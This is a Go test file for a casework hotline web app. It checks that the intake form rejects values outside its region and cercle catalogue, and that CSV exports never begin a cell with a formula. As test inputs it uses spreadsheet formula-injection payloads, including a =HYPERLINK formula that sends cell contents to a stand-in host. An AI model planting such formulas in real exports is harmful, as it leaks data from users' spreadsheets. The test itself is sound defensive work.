package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/numerovert/hotline/casework"
)

// Staff intake takes only places and codes from the catalogue: anything
// else is a 400 and no case.
func TestIntakeRefusesValuesOutsideTheCatalogue(t *testing.T) {
	e := newEnv(t)
	c := e.login(t, "awa")
	good := url.Values{"language": {"fr"}, "category": {"exclusion"}, "region": {"unknown"}, "cercle": {"ML0501"}, "assistance": {"food"}, "detail": {`=HYPERLINK("http://x.example/?d="&A1,"click")`}}
	form := func(field, value string) url.Values {
		_, page := c.get("/meal/intake")
		v := url.Values{}
		for k, vs := range good {
			v[k] = append([]string(nil), vs...)
		}
		v.Set("nonce", regexp.MustCompile(`name="nonce" value="([^"]+)"`).FindStringSubmatch(page)[1])
		if field != "" {
			v.Set(field, value)
		}
		return v
	}
	for _, bad := range []struct{ field, value string }{
		{"region", `=HYPERLINK("http://x.example")`},
		{"region", "ML0501"}, // a cercle is not a region
		{"region", "ML99"},
		{"cercle", "ML0601"}, // a cercle of Tombouctou with region Mopti
		{"cercle", "@SUM(1+1)"},
		{"cercle", "ML05"}, // a region is not a cercle
		{"category", "+exclusion"},
		{"category", "sea2"},
		{"assistance", "-cash"},
		{"language", "xx"},
	} {
		v := form(bad.field, bad.value)
		if bad.field == "cercle" {
			v.Set("region", "ML05")
		}
		if resp, _ := c.post("/meal/intake", v); resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s=%q: status %d, want 400", bad.field, bad.value, resp.StatusCode)
		}
	}
	list, err := e.svc.List(context.Background(), casework.Actor{ID: "x", Team: "meal-national"}, casework.Filter{})
	if err != nil || len(list.Cases) != 0 {
		t.Fatalf("refused intakes made cases: %d, %v", len(list.Cases), err)
	}
	// The free text may hold anything; no CSV cell may start a formula.
	if resp, body := c.post("/meal/intake", form("", "")); resp.StatusCode != http.StatusOK || !strings.Contains(body, `id="pin"`) {
		t.Fatalf("a valid intake: %d", resp.StatusCode)
	}
	sup := e.login(t, "fanta")
	v := e.login(t, "vera")
	for _, export := range []struct {
		c    *client
		path string
	}{{sup, "/meal/export/cases.csv"}, {v, "/meal/export/aggregate.csv"}, {v, "/meal/export/hxl.csv"}} {
		resp, body := export.c.get(export.path)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d", export.path, resp.StatusCode)
		}
		if strings.Contains(body, "HYPERLINK") {
			t.Errorf("%s carries the free text", export.path)
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", export.path, err)
		}
		if export.path == "/meal/export/cases.csv" && (len(rows) != 2 || rows[1][11] != "ML05" || rows[1][12] != "ML0501") {
			t.Errorf("case export %v: want one case in ML05/ML0501 (region taken from the cercle)", rows)
		}
	}
}
